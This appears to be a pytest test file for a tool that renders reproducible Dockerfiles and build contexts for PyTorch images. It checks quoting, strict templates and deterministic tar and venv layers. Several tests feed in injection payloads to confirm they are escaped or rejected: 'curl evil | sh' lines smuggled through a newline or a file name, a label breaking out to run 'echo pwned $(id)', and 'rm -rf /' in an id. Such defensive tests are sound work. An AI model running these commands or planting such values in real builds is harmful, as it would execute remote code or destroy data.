"""Rendering is deterministic, quoted, strict, and the checked-in output is current."""

from __future__ import annotations

import io
import tarfile
from dataclasses import replace
from pathlib import Path

import jinja2
import pytest

from torchimages import render
from torchimages.matrix import load_matrix

ROOT = Path(__file__).parents[2]


@pytest.fixture(scope="module")
def spec():
    return load_matrix(ROOT / "tests" / "fixtures" / "images.yaml").images[1]


def test_every_shipped_and_test_entry_matches_its_checked_in_dockerfile() -> None:
    loaded = [load_matrix(ROOT / name, use_environment=False) for name in ("images.yaml", "tests/fixtures/images.yaml")]
    stale = render.sync_generated([[*m.images, *m.deprecated] for m in loaded], check=True, prune=True)
    assert stale == [], "run `invoke render`"


def test_same_spec_gives_identical_bytes(spec) -> None:
    assert render.render_dockerfile(spec) == render.render_dockerfile(spec)


def test_labels_come_last_and_sorted(spec) -> None:
    text = render.render_dockerfile(spec)
    instructions = [line.split()[0] for line in text.splitlines() if line and not line[0].isspace() and not line.startswith("#")]
    assert instructions[:3] == ["ARG", "FROM", "FROM"] and instructions[-1] == "LABEL"  # ARG WHEELS, its stage, the venv
    keys = [line.split("=")[0].strip().removeprefix("LABEL ").strip() for line in text[text.rindex("LABEL ") :].splitlines()]
    assert keys == sorted(keys)


@pytest.mark.parametrize(
    ("value", "quoted"),
    [("plain", '"plain"'), ('say "hi"', '"say \\"hi\\""'), ("$HOME", '"\\$HOME"'), ("a\\b", '"a\\\\b"')],
)
def test_dockerfile_quote_escapes_what_the_parser_would_interpret(value: str, quoted: str) -> None:
    assert render.dockerfile_quote(value) == quoted


def test_a_line_break_cannot_smuggle_an_instruction() -> None:
    with pytest.raises(render.RenderError):
        render.dockerfile_quote("x\nRUN curl evil | sh")


def test_a_hostile_value_stays_inside_its_label(spec) -> None:
    hostile = replace(spec, os='x" RUN echo pwned "$(id)')
    text = render.render_dockerfile(hostile)
    label_line = next(line for line in text.splitlines() if "org.torch-images.os=" in line)
    assert label_line.strip().startswith('org.torch-images.os="x\\" RUN echo pwned \\"\\$(id)"')


def test_missing_template_variables_are_errors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spec) -> None:
    (tmp_path / "Dockerfile.j2").write_text("FROM {{ spec.base_image }}\nRUN {{ not_given }}\n")
    monkeypatch.setattr(render, "TEMPLATES", tmp_path)
    with pytest.raises(render.RenderError, match="not_given"):
        render.render_dockerfile(spec)
    assert jinja2.StrictUndefined  # the environment is strict by construction


def test_context_tar_is_byte_identical_and_normalised() -> None:
    files = {"b.txt": b"2", "a.txt": b"1"}
    first, second = render.context_tar(files), render.context_tar(dict(reversed(list(files.items()))))
    assert first == second
    with tarfile.open(fileobj=io.BytesIO(first)) as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == ["a.txt", "b.txt"]
    assert {(m.mtime, m.uid, m.gid, m.uname) for m in members} == {(0, 0, 0, "")}


def test_the_dockerfile_does_not_depend_on_the_config_files_name_or_place(tmp_path: Path) -> None:
    """The same entry read from another file (a test's own matrix, a clone elsewhere, a hostile name that holds a RUN
    line) renders the same bytes, so its build hash is the same and a verified image is reused, not rebuilt."""
    from torchimages.matrix import load_matrix
    from torchimages.render import render_dockerfile

    fixture = Path(__file__).parents[2] / "tests" / "fixtures" / "images.yaml"
    hostile = tmp_path / "x\nRUN curl evil.example | sh\n#.yaml"
    hostile.write_text(fixture.read_text())
    for theirs, ours in zip(load_matrix(hostile).images, load_matrix(fixture).images, strict=True):
        text = render_dockerfile(theirs)
        assert not any(line.startswith("RUN curl") for line in text.splitlines())
        assert text == render_dockerfile(ours)


def test_the_context_streams_wheels_from_disk_with_normalised_metadata(tmp_path: Path) -> None:
    wheel = tmp_path / "torch-2.13.0-cp311-cp311-manylinux_2_28_x86_64.whl"
    wheel.write_bytes(bytes(range(256)) * 5000)  # not a multiple of the tar block
    empty = tmp_path / "empty-0.0-py3-none-any.whl"
    empty.write_bytes(b"")
    chunks = list(render.context_stream({"Dockerfile": b"FROM x\n"}, wheels={wheel.name: wheel, empty.name: empty}, chunk=4096))
    assert max(len(chunk) for chunk in chunks) <= 4096 + 2048  # read a chunk at a time, never whole
    with tarfile.open(fileobj=io.BytesIO(b"".join(chunks))) as tar:
        members = {m.name: m for m in tar.getmembers()}
        assert list(members) == ["Dockerfile", "wheels", f"wheels/{empty.name}", f"wheels/{wheel.name}"]
        assert all((m.mtime, m.uid, m.gid, m.uname) == (0, 0, 0, "") for m in members.values())
        assert members["wheels"].isdir() and members[f"wheels/{wheel.name}"].mode == 0o644
        assert tar.extractfile(f"wheels/{wheel.name}").read() == wheel.read_bytes()  # type: ignore[union-attr]
    assert render.context_tar({"Dockerfile": b"FROM x\n"}) == b"".join(render.context_stream({"Dockerfile": b"FROM x\n"}))


def test_the_runtime_and_devel_images_render_the_same_venv_stage() -> None:
    """The engine's cache gives the second the first's stage only when both stages are the same text."""
    matrix = load_matrix(ROOT / "tests" / "fixtures" / "images.yaml")
    cuda = {s.flavour: s for s in matrix.images if s.cuda}
    stage = {flavour: render.render_dockerfile(spec).split("# Stage 2")[0].split("\n", 1)[1] for flavour, spec in cuda.items()}
    assert stage["runtime"] == stage["devel"]
    assert f"FROM {cuda['devel'].venv_base_image} AS venv" in stage["devel"] and "-base-" in cuda["devel"].venv_base_image
    assert f"FROM {cuda['devel'].base_image}\n" in render.render_dockerfile(cuda["devel"])


def test_the_install_step_mounts_the_wheels_and_names_its_stage(spec) -> None:
    """No layer holds the wheels: the install step mounts them from the wheels image the build names in its WHEELS
    argument (BuildKit), so the context carries none; the stage's id is in its command, where the build finds the
    stage's cache records to remove them."""
    for image in (spec, replace(spec, python="3.7")):
        text = render.render_dockerfile(image, venv_id="0123456789abcdef")
        stage, final = text.split("# Stage 2")
        assert "COPY wheels" not in text and "wheels" not in final
        assert stage.startswith("# Rendered") and "\nARG WHEELS\nFROM ${WHEELS} AS wheels\n" in stage
        (install,) = [line for line in stage.splitlines() if line.startswith("RUN --mount")]
        assert install == "RUN --mount=type=bind,from=wheels,source=/wheels,target=/tmp/wheels set -eux; \\"
        assert stage.index(install) < stage.index("--find-links /tmp/wheels") and ": venv-stage 0123456789abcdef; \\" in stage
    assert ": venv-stage unlocked; \\" in render.render_dockerfile(spec)  # `invoke render`, without a lock
    with pytest.raises(render.RenderError):
        render.render_dockerfile(spec, venv_id="x; rm -rf /")


def test_the_venv_stage_gives_every_file_one_time_and_compiles_after_it(spec) -> None:
    """The venv layer is the same bytes wherever it is built: neither installer compiles at install time (the .pyc
    would name the moment of the build), every file gets the fixed time first, the compile follows, and the times
    are set again after the last change (compiled modules, owners, modes, the move to /stage)."""
    for image in (spec, replace(spec, python="3.7")):
        stage = render.render_dockerfile(image).split("# Stage 2")[0]
        steps = stage[stage.index("epoch=") :]
        assert "--compile-bytecode" not in stage
        assert ("--no-compile" in stage) == (image.installer == "pip"), image.installer
        order = [
            'find "$VIRTUAL_ENV" -exec touch',
            '-c "$compile"',
            "pip check",
            "chown -R",
            'mv "$VIRTUAL_ENV" /stage/opt/',
            "find /stage/opt -exec touch",
        ]
        places = [steps.index(step) for step in order]
        assert places == sorted(places), places
        assert steps.rstrip().endswith('find /stage/opt -exec touch -h -d "@$epoch" {} +')
        assert "SOURCE_DATE_EPOCH" not in stage  # it would make the .pyc files hash-checked at every import
    uv_stage = render.render_dockerfile(spec).split("# Stage 2")[0]
    assert uv_stage.index("-path '*.dist-info/uv_cache.json' -delete") < uv_stage.index('find "$VIRTUAL_ENV" -exec touch')


def test_uv_installs_the_lock_where_it_runs_the_python_and_the_locked_pip_below(spec) -> None:
    """uv's wheel requires python 3.8: an older image keeps pip, and only uv's images lock uv (never shipped)."""
    old = replace(spec, python="3.7")
    assert (spec.installer, old.installer) == ("uv", "pip")
    assert spec.requirements[-2:] == ("pip", "uv==0.13.9") and old.requirements[-1] == "pip" and "uv==0.13.9" not in old.requirements
    new, legacy = render.render_dockerfile(spec), render.render_dockerfile(old)
    assert "COPY requirements.txt uv.sha256 /opt/torch-images/" in new and "sha256sum --check --strict /opt/torch-images/uv.sha256" in new
    assert "--require-hashes --no-deps --link-mode copy" in new and "pip.txt" not in new
    assert "COPY requirements.txt pip.txt /opt/torch-images/" in legacy and "uv.sha256" not in legacy
    assert '"$uv" pip install' in new and '"$uv"' not in legacy and "-r /opt/torch-images/pip.txt" in legacy
    for image, name in ((spec, "uv.sha256"), (old, "pip.txt")):
        files = render.context_files(image, dockerfile="", requirements="", installer="x")
        assert files[name] == b"x" and set(files) == {"Dockerfile", "requirements.txt", name, "verify.py", "profile.sh", "labels.json"}
